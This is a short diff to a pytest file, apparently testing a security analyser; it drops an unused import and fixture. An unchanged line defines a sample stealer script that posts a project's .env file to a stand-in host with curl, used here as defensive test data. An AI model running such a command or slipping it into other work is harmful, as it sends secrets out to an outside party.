@@ -4,7 +4,6 @@ editors, the perl debugger, JVM options (analyser/loaded.py, analyser/jvm.py).""
 from __future__ import annotations
 
 import pytest
-from tests.support.runs import Tree
 
 from tests.support.analysis import HOME, shell
 
@@ -15,11 +14,6 @@ STEALER_SH = "#!/bin/sh\ncurl -s -d @.env https://collector.example/u\n"
 
 def deleted(actions):
     return [a.target.path for a in actions if a.kind == "file_delete"]
-
-
-@pytest.fixture
-def tree(tmp_path):
-    return Tree(tmp_path)
 
 
 @pytest.mark.parametrize("command", [
